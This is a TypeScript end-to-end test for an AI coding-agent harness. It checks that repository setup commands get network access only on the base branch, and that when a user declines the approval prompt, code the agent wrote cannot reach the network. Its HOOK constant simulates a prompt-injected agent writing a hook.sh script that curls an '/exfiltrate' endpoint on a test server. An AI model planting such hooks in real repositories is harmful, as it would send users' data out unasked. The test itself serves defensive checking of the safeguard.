import { afterEach, describe, expect, it } from 'vitest';
import { functionCall, message, reply } from '../fakes/model-server.js';
import { FAKE_IDS, startE2E, type E2E } from '../helpers/e2e.js';
import { startNetworkServer } from '../helpers/network-server.js';
import { click, replyInThread, shown, startTask, waitApprovalPrompt, waitStatus } from '../helpers/thread.js';

/*
 * Setup commands get the network only on the base branch's own content. A prompt-injected
 * first turn (no network) writes a program that the repo's setup runs; a reply starts turn 2;
 * its setup asks before it would get the network, and declined, the program never reaches the
 * server the test listens on.
 */

let e: E2E | undefined;
const cleanups: Array<() => Promise<unknown>> = [];
afterEach(async () => {
  await e?.cleanup();
  e = undefined;
  for (const c of cleanups.splice(0).reverse()) await c().catch(() => undefined);
});

const { channel, owner } = FAKE_IDS;
/** The admin's setup: fetch something, then run the repo's own hook if it has one (as package scripts do). */
const SETUP = 'curl -sf --max-time 5 http://netserver:8080/setup-on-base >/dev/null; test ! -x ./hook.sh || ./hook.sh';
// It also adds a lockfile, so the follow-up's setup is not restored from the setup cache but runs.
const HOOK = 'printf "#!/bin/sh\\ncurl -sf --max-time 5 http://netserver:8080/exfiltrate\\n" > hook.sh && chmod +x hook.sh && echo "left-pad==1.0" > requirements.txt';

describe('setup commands and the network', () => {
  it('gives setup the network on the base branch only; on a tree the agent wrote it asks, and declined, nothing leaves', { timeout: 120_000 }, async () => {
    const server = await startNetworkServer('ok');
    cleanups.push(() => server.remove());
    e = await startE2E({
      repo: { network: server.network, networkAllow: ['netserver'], setup: [SETUP], approval: { mode: 'never', network: true, timeoutMinutes: 5 } },
      script: [reply(functionCall('shell', { command: HOOK })), reply(message('Wrote a helper script.')), reply(message('Carried on.'))],
    });
    const { taskId, card } = await startTask(e, 'tidy the scripts');
    await waitStatus(e, taskId, 'done', 60_000);
    // Turn 1 ran setup on the base branch's content, with network, and asked nothing.
    expect(await server.requests()).toEqual(['/setup-on-base']);
    expect((await e.store.readEvents(taskId)).some((ev) => ev.type === 'approval_requested')).toBe(false);

    await replyInThread(e, card.ts, owner, 'now carry on');
    const prompt = await waitApprovalPrompt(e, channel, card.ts, 0, 60_000);
    expect(shown(prompt)).toContain('hook.sh');
    expect(shown(prompt)).toMatch(/changes the agent made/);
    await click(e, prompt, 'codex_deny', owner);
    await e.fake.waitFor(async () => {
      const t = await e!.store.getTask(taskId);
      return t?.turn === 2 && (t.status === 'done' || t.status === 'failed') && t;
    }, 60_000);
    // The hook ran without network: the server never saw it.
    expect(await server.requests()).toEqual(['/setup-on-base']);
  });
});
